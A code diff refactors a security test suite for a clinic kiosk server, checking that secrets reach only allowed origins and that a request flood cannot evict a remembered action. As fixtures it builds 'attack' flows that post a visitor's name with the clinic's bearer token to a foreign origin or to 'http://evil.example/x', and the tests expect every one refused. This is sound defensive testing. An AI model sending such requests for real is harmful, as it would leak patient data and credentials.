@@ -5,8 +5,7 @@
 // of the server's memory so that it runs again.
 
 import { describe, expect, it } from 'vitest';
-import { stringify } from 'yaml';
-import { json, useServerHarness } from '../support/server-harness.ts';
+import { json, toolFlow, useServerHarness } from '../support/server-harness.ts';
 import { emptyTestMemory } from '../support/test-memory.ts';
 
 const TOKEN = 'sec-clinic-token-5a1f0e9c3b7d';
@@ -19,11 +18,8 @@ async function post(kiosk: string, body: unknown): Promise<{ status: number; bod
   return { status: response.status, body: JSON.parse(text) as Record<string, unknown> };
 }
 
-/** A flow whose `send` tool posts to `url` with the clinic's token. */
-function flowPosting(url: string): string {
-  const http = { method: 'POST', url, headers: { Authorization: 'Bearer {secret:CLINIC_TOKEN}' }, body: { name: '{full_name}' } };
-  return stringify({ id: 'attack', states: { s: { ui: { artifact_type: 'card', title: 'S' }, tools: { send: { description: 'Send.', http } } } } });
-}
+/** A check-in that posts the visitor's name to `url` with the clinic's token. */
+const posting = (url: string) => ({ method: 'POST', url, headers: { Authorization: 'Bearer {secret:CLINIC_TOKEN}' }, body: { name: '{full_name}' } });
 
 describe('the page cannot choose what an action sends', () => {
   it('refuses an action that names its own url, method, headers or body (the old request), and sends nothing', async () => {
@@ -40,7 +36,7 @@ describe('the page cannot choose what an action sends', () => {
   it('loads no flow from a site the operator did not allow, so none of its actions can ever run', async () => {
     const evil = await harness.startUpstream((_req, res) => {
       res.writeHead(200, { 'content-type': 'text/yaml', 'access-control-allow-origin': '*' });
-      res.end(flowPosting('http://127.0.0.1:9/x'));
+      res.end(toolFlow(posting('http://127.0.0.1:9/x')));
     });
     const kiosk = await harness.startKiosk({});
     const response = await fetch(`${kiosk}/api/flows?src=${encodeURIComponent(`${evil.base}/attack.yaml`)}`);
@@ -57,12 +53,10 @@ describe('a secret goes only where the operator says', () => {
     const clinicOrigin = new URL(clinic.base).origin;
     const otherOrigin = new URL(other.base).origin;
     const kiosk = await harness.startKiosk({ actions: { allowedOrigins: [clinicOrigin, otherOrigin], secrets: { CLINIC_TOKEN: TOKEN }, secretOrigins: { CLINIC_TOKEN: [clinicOrigin] } } });
-    const toOther = harness.keepFlow(flowPosting(`${otherOrigin}/collect`));
-    const answer = await post(kiosk, { action_id: 'b1', flow_id: 'attack', ...toOther, state: 's', tool: 'send', values: { full_name: 'Maria' } });
+    const answer = await post(kiosk, { ...harness.toolAsk('b1', posting(`${otherOrigin}/collect`)), values: { full_name: 'Maria' } });
     expect(answer.body).toMatchObject({ ok: false, error: 'secret_not_allowed' });
     expect(other.received).toHaveLength(0);
-    const toClinic = harness.keepFlow(flowPosting(`${clinicOrigin}/check-ins`));
-    expect((await post(kiosk, { action_id: 'b2', flow_id: 'attack', ...toClinic, state: 's', tool: 'send', values: { full_name: 'Maria' } })).body).toMatchObject({ ok: true });
+    expect((await post(kiosk, { ...harness.toolAsk('b2', posting(`${clinicOrigin}/check-ins`)), values: { full_name: 'Maria' } })).body).toMatchObject({ ok: true });
     expect(clinic.received[0]?.headers.authorization).toBe(`Bearer ${TOKEN}`);
   });
 });
@@ -72,12 +66,11 @@ describe('the action memory', () => {
     const target = await harness.startUpstream((_req, res) => json(res, 201, { queue_number: 7 }));
     const origin = new URL(target.base).origin;
     const kiosk = await harness.startKiosk({ actions: { allowedOrigins: [origin], secrets: {} } }, {}, await emptyTestMemory({ actions: { maxEntries: 10 } }));
-    const flow = harness.keepFlow(stringify({ id: 'attack', states: { s: { ui: { artifact_type: 'card', title: 'S' }, tools: { send: { description: 'Send.', http: { method: 'POST', url: `${origin}/check-ins` } } } } } }));
-    const done = { action_id: 'c-first', flow_id: 'attack', ...flow, state: 's', tool: 'send', values: {} };
+    const done = harness.toolAsk('c-first', { method: 'POST', url: `${origin}/check-ins` });
     expect((await post(kiosk, done)).body).toMatchObject({ ok: true, data: { queue_number: 7 } });
-    const refused = harness.keepFlow(stringify({ id: 'attack', states: { s: { ui: { artifact_type: 'card', title: 'S' }, tools: { send: { description: 'Send.', http: { method: 'POST', url: 'http://evil.example/x' } } } } } }));
+    const refused = harness.toolAsk('c-flood', { method: 'POST', url: 'http://evil.example/x' });
     for (let i = 0; i < 40; i++) {
-      expect((await post(kiosk, { action_id: `c-flood-${i}`, flow_id: 'attack', ...refused, state: 's', tool: 'send', values: {} })).body).toMatchObject({ error: 'refused_host' });
+      expect((await post(kiosk, { ...refused, action_id: `c-flood-${i}` })).body).toMatchObject({ error: 'refused_host' });
     }
     expect((await post(kiosk, done)).body).toMatchObject({ ok: true, replayed: true });
     expect(target.received).toHaveLength(1);
